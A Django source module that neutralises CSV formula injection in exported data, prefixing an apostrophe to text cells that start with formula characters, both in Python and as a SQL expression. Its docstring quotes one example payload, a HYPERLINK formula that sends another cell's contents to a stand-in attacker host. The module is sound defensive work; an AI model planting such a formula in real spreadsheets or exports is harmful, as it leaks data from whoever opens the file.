"""Text cells of our CSV files that a spreadsheet would run as a formula.

Why: a citizen's description such as `=HYPERLINK("http://evil.example/?"&A2,"photo")`,
opened in Excel or LibreOffice by whoever downloads the data, is a formula that can send
the sheet's other cells away (OWASP's "CSV injection"). A text that starts with one of the
characters a spreadsheet reads as the start of a formula (= + - @, a tab or a carriage
return) is written with an apostrophe before it, which spreadsheets take as "this is text"
and do not show. Only texts are changed, never numbers (a longitude of -78.6 stays a
number); the JSON and XML answers carry the text as it was given.
"""

from __future__ import annotations

from typing import Any

from django.db.models import Case, Func, IntegerField, TextField, Value, When
from django.db.models.functions import Concat
from django.db.models.lookups import In

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Echo:
    """A file-like object whose write returns the line (for csv.writer in a stream)."""

    def write(self, value: str) -> str:
        return value


def inert(value: Any) -> Any:
    """`value`, with an apostrophe before it when it is a text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_sql(expression: Any) -> Case:
    """The same in the database, for an expression of text (NULL stays NULL). The first
    character's code point (ascii()) is compared with integers: left(x, 1) IN (...) made a
    million-row CSV export take 70% longer."""
    first = Func(expression, function="ascii", output_field=IntegerField())
    starts_formula = In(first, [ord(c) for c in FORMULA_STARTS])
    return Case(
        When(starts_formula, then=Concat(Value("'"), expression, output_field=TextField())),
        default=expression,
        output_field=TextField(),
    )
